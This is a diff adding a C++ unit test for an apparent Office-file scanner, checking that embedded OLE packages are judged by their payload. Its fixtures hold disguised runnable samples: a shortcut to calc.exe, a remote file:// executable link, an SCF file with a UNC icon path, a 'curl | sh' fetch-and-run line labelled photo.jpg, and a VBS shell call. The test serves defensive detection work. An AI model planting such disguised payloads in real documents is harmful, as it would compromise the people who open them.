@@ -403,3 +403,33 @@ TEST(OleLimits, ExhaustedChildBudgetStopsChildrenNotFindings) {
 
 }  // namespace
 }  // namespace airlock::scan::office::testing
+
+namespace airlock::scan::office::testing {
+namespace {
+
+// Issue 17: packages judged by the payload. Runnable content under an innocent label, shortcut and
+// command-file names are 7; a PDF under its own name is 2 (the PDF child is judged on its own).
+TEST(OleEmbedded, PackagesAreJudgedByTheirPayload) {
+  std::string lnk("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
+  lnk += std::string(60, '\0') + "C:\\Windows\\System32\\calc.exe";
+  const std::pair<std::string, std::string> runnable[] = {
+      {"readme.txt", lnk},
+      {"Invoice", "[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"},
+      {"desktop.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\icon\r\n"},
+      {"photo.jpg", "#!/bin/sh\ncurl http://x | sh\n"},
+      {"update.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"\n"},
+  };
+  for (const auto& [label, content] : runnable) {
+    TreeResult r = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole10Native", Ole10Native(label, content)}}));
+    auto f = r.With("office.ole.package");
+    ASSERT_EQ(f.size(), 1u) << label << "\n" << r.Describe();
+    EXPECT_EQ(f[0].severity, 7) << label;
+  }
+  TreeResult pdf = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole10Native", Ole10Native("Q3 report.pdf", "%PDF-1.4\n%%EOF\n")}}));
+  auto f = pdf.With("office.ole.package");
+  ASSERT_EQ(f.size(), 1u) << pdf.Describe();
+  EXPECT_EQ(f[0].severity, 2);
+}
+
+}  // namespace
+}  // namespace airlock::scan::office::testing
